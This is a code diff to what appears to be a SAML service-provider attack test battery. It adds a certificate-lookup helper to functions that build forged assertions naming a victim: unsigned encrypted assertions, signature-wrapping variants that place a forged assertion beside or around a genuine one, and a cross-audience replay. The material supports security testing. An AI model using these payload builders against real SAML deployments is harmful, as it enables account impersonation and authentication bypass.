@@ -26,10 +26,17 @@ def _xenc(local: str) -> str:
     return ns.q(xmlenc.XENC, local)
 
 
+def _sp_cert(ctx: Context) -> bytes:
+    """The SP's encryption certificate (the battery skips this family without one)."""
+    if not ctx.sp.encryption_cert_pem:
+        raise ValueError("the SP's encryption certificate is not known")
+    return ctx.sp.encryption_cert_pem
+
+
 def _encrypted(ctx: Context, *, cert_pem: bytes | None = None, **algs: str) -> etree._Element:
     """A Response whose Assertion (the attacker's own, signed by the IdP) is encrypted to `cert_pem`."""
     resp, assertion = ctx.signed("assertion")
-    xmlenc.encrypt_assertion(assertion, cert_pem or ctx.sp.encryption_cert_pem, **algs)
+    xmlenc.encrypt_assertion(assertion, cert_pem or _sp_cert(ctx), **algs)
     return resp
 
 
@@ -70,7 +77,7 @@ def unsigned_inside(ctx: Context) -> Message:
     """An unsigned Assertion naming the victim, encrypted to the SP's certificate (which anyone can do)."""
     resp, assertion = ctx.build()
     assertion.getparent().replace(assertion, evil := evil_assertion(ctx, assertion, keep_id=True))
-    xmlenc.encrypt_assertion(evil, ctx.sp.encryption_cert_pem)
+    xmlenc.encrypt_assertion(evil, _sp_cert(ctx))
     return ctx.message(resp)
 
 
@@ -83,7 +90,7 @@ def beside_forged(ctx: Context) -> Message:
     """The attacker's genuine signed-then-encrypted Assertion, plus a plain unsigned one naming the victim."""
     resp, assertion = ctx.signed("assertion")
     forged = evil_assertion(ctx, assertion)
-    xmlenc.encrypt_assertion(assertion, ctx.sp.encryption_cert_pem)
+    xmlenc.encrypt_assertion(assertion, _sp_cert(ctx))
     resp.find(q("EncryptedAssertion")).addprevious(forged)
     return ctx.message(resp)
 
@@ -98,7 +105,7 @@ def inside_forged(ctx: Context) -> Message:
     """A plain unsigned Assertion naming the victim, with the genuine EncryptedAssertion tucked in its Advice."""
     resp, assertion = ctx.signed("assertion")
     forged = evil_assertion(ctx, assertion)
-    enc = xmlenc.encrypt_assertion(assertion, ctx.sp.encryption_cert_pem)
+    enc = xmlenc.encrypt_assertion(assertion, _sp_cert(ctx))
     advice = etree.SubElement(forged, q("Advice"))
     enc.getparent().replace(enc, forged)
     advice.append(enc)
@@ -179,7 +186,7 @@ def another_audience(ctx: Context) -> Message:
     """A genuine signed Assertion for another SP's EntityID, encrypted to this SP's certificate."""
     other = ctx.with_(sp=replace(ctx.sp, entity_id="https://other-sp.example/saml"))
     resp, assertion = other.signed("assertion")
-    xmlenc.encrypt_assertion(assertion, ctx.sp.encryption_cert_pem)
+    xmlenc.encrypt_assertion(assertion, _sp_cert(ctx))
     return ctx.message(resp)
 
 
